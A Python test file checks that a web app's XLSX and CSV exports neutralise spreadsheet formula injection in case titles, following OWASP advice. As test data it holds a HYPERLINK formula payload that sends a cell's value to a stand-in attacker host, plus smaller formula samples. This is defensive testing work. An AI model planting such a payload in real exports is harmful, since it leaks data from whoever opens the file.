"""A case title or reason typed as a formula never runs in the supervisor's spreadsheet:
XLSX cells holding text are text, CSV cells starting like a formula get an apostrophe
(OWASP's CSV injection advice) — while our own numbers and percentages stay as they are."""

import io

import openpyxl

from web.exports import csv_bytes, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_xlsx_keeps_a_formula_like_title_as_text_and_numbers_as_numbers():
    data = xlsx_bytes("案件", ["案件名称", "较上年"], [[EVIL, -0.035], ["@SUM(A1:A9)", 0.2]],
                      ["text", "change"], notes=[("筛选条件", "=1+1")])
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet, notes = book.worksheets
    assert [(c.value, c.data_type) for c in sheet[2]] == [(EVIL, "s"), (-0.035, "n")]
    assert sheet[3][0].data_type == "s"
    assert notes[1][1].value == "=1+1" and notes[1][1].data_type == "s"


def test_csv_defuses_formula_starts_but_not_our_numbers():
    text = csv_bytes(["案件名称", "较上年", "件数"],
                     [[EVIL, "-3.5%", "1,234"], ["+86 574 8888", "+12.0%", "-"],
                      ["\t=1+1", "0.0%", "7"]]).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and lines[1].endswith(",-3.5%,\"1,234\"")
    assert lines[2] == "'+86 574 8888,+12.0%,'-"
    assert lines[3] == "'\t=1+1,0.0%,7"
